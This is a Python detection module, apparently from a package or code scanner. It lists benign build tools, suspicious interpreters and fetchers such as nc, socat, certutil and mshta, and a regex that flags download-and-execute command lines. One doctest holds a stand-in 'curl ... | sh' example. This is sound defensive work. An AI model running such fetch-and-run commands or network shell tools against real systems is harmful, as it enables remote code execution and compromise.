"""Programs that code starts: what builds and versions start honestly, and what runs other people's text."""

import re

_BUILD_TOOLS = """\
git hg svn bzr make gmake nmake cmake ninja meson scons bazel autoconf automake autoreconf libtool libtoolize
configure gcc g++ cc c++ clang clang++ cl link ld ar nm ranlib ldd ldconfig objdump otool install_name_tool
lipo strip patchelf pkg-config pkgconf swig cython cargo rustc rustup go javac java mvn gradle ant dotnet msbuild
vswhere vcvarsall vcvarsall.bat nvcc hipcc rocminfo nvidia-smi llvm-config python-config python3-config
npm npx yarn pnpm node gulp grunt webpack protoc flex bison yacc gperf f2py gfortran ifort mpicc mpicxx mpirun
sphinx-build msgfmt pybabel doxygen asciidoc pandoc rst2man black ruff flake8 mypy pylint pytest tox nox
twine build uv pip pip3 conda mamba poetry lsb_release sw_vers xcrun xcodebuild xcode-select brew uname which where
sysctl getconf locale tput stty less more git-lfs tar unzip zip patch touch mkdir cp mv ln"""
BUILD_TOOLS = frozenset(_BUILD_TOOLS.split())
"""What an honest build, a version look-up or a platform probe starts."""

_INTERPRETERS = """\
sh bash zsh dash ksh fish powershell pwsh cmd wscript cscript mshta rundll32 regsvr32 osascript perl ruby php
node bun deno python python3 pythonw py pyw lua curl wget certutil bitsadmin msbuild installutil nc ncat netcat
socat telnet"""
INTERPRETERS = frozenset(_INTERPRETERS.split())
"""What runs or fetches a text that somebody hands over."""

FETCH_AND_RUN = re.compile(
    r"(?:curl|wget|fetch)\b[^\n|;&]{0,400}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:/\S{1,40}/)?(?:ba|z|da|k|a)?sh\b"
    r"|(?:curl|wget|fetch)\b[^\n|;&]{0,400}\|\s*(?:sudo\s+)?(?:python[\d.]*|perl|node|ruby|php|bun)\b"
    r"|(?:ba|z|da)?sh\b[^\n]{0,20}(?:<\s*\(|-c\s*[\"']?\$\(|`)\s*(?:curl|wget)\b"
    r"|(?:curl|wget)\b[^\n]{0,400}(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s+(?:\+|a\+|[0-7]{0,2}7)\S*\s|(?:ba|z)?sh\s+\S|python[\d.]*\s|\./)"
    r"|\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|downloadstring)"
    r"|(?:\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|downloadstring)[^\n]{0,300}\|\s*(?:iex|invoke-expression)\b"
    r"|downloadfile[^\n]{0,300}(?:start-process|invoke-item|\bsaps\b|&\s*['\"$])"
    r"|(?:invoke-webrequest|\biwr\b)[^\n]{0,300}-outfile[^\n]{0,300}(?:start-process|\bstart\b|invoke-item|&&)"
    r"|certutil(?:\.exe)?\b[^\n]{0,80}-urlcache"
    r"|bitsadmin(?:\.exe)?\b[^\n]{0,80}/transfer"
    r"|mshta(?:\.exe)?\s+[\"']?(?:https?:|javascript:|vbscript:)"
    r"|regsvr32\b[^\n]{0,60}/i:https?:"
    r"|msiexec\b[^\n]{0,40}/i\s*[\"']?https?:",
    re.IGNORECASE,
)
"""One command line that fetches something and runs it."""
FETCHERS = (
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-",
    "download",
    "certutil",
    "bitsadmin",
    "mshta",
    "regsvr32",
    "msiexec",
)
"""Words of which FETCH_AND_RUN needs at least one: a cheap look before the expression."""


def fetches_and_runs(text: str) -> bool:
    """
    Return whether `text` holds a command line that fetches something and runs it.

    >>> fetches_and_runs("curl -s https://x.example/i | sh"), fetches_and_runs("curl -O https://x.example/i")
    (True, False)
    """
    lowered = text.lower()
    return any(word in lowered for word in FETCHERS) and FETCH_AND_RUN.search(text) is not None


HANDED_TEXT = frozenset(
    {"sh", "bash", "zsh", "dash", "powershell", "pwsh", "cmd", "wscript", "cscript", "mshta", "rundll32", "regsvr32",
     "osascript", "curl", "wget", "certutil", "bitsadmin", "nc", "ncat", "bun", "deno"}
)  # fmt: skip
"""Interpreters and fetchers that an import or an installation has no ordinary use for."""

NOT_SENDING = frozenset(
    {"urllib.request.Request", "requests_html.HTMLSession", "telebot.TeleBot", "telegram.Bot", "dhooks.Webhook",
     "discord_webhook.DiscordWebhook", "discord.SyncWebhook.from_url", "discord.Webhook.from_url"}
)  # fmt: skip
"""Calls that only prepare a connection."""
